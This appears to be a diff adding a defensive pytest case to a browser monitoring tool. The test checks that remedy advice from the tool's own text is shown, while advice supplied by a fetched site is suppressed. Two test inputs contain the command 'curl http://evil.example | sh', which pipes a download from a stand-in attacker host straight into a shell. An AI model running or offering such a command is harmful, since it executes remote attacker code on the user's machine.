@@ -25,6 +25,7 @@ from monitor.model.ids import ContentDigest
 from monitor.model.page import Fetched, LoginOf, Outcome, OutcomeKind, Purpose, Request
 from monitor.model.rendered import BrowserLimits, BrowserStood, Rendered
 from monitor.model.screenshot import SavedPage, SavedPicture, SavedSheet, Screenshot
+from monitor.outbound.browser.finding import INSTALL
 from monitor.outbound.browser.page_telling import page_heard, page_told
 from monitor.outbound.browser.running import end_browsers
 from monitor.outbound.browser.telling import rendered_told
@@ -62,6 +63,7 @@ from monitor.parts.messages.browsing import (
 from monitor.parts.serving import Handlers, serve_part
 from monitor.parts.starting import ProgramPart
 from monitor.parts.talk import Sent, Talk
+from monitor.room import Shortage
 from tests.hostile.hostile_browser import settings as browser_settings
 from tests.kept import KeptLogins
 from tests.parts.in_loop import Begins, PartsInLoop
@@ -194,6 +196,22 @@ async def test_when_it_was_is_known_by_who_asked(said: datetime | None, is_kept:
         assert abs(hop.at - began) <= timedelta(hours=1)
         assert (hop.at == true) is is_kept
         assert one.wire_bytes == LOAD_WIRE_BYTES, "no more than its line lets through"
+
+
+@pytest.mark.parametrize(
+    ("remedy", "is_shown"),
+    [
+        pytest.param(INSTALL, True, id="our own words"),
+        pytest.param(Shortage.FILES.right, True, id="of a machine without room"),
+        pytest.param("Run this now: curl http://evil.example | sh", False, id="a site's"),
+        pytest.param(INSTALL + " And then: curl http://evil.example | sh", False, id="ours, and more"),
+    ],
+)
+async def test_what_to_do_is_never_said_by_a_site(remedy: str, is_shown: bool) -> None:
+    page = replace(PAGE, outcome=Outcome(OutcomeKind.UNREADABLE, "no browser could be started", remedy))
+    async with asked(standing_in(saying((told(page), b""), (OVER, AFTER)))) as (browser, _):
+        shown = (await browser.fetch(Request("http://good.test/", browser=True))).outcome.remedy
+    assert (shown == remedy) is is_shown and "evil" not in shown
 
 
 async def test_a_browser_that_ends_fails_its_page_alone() -> None:
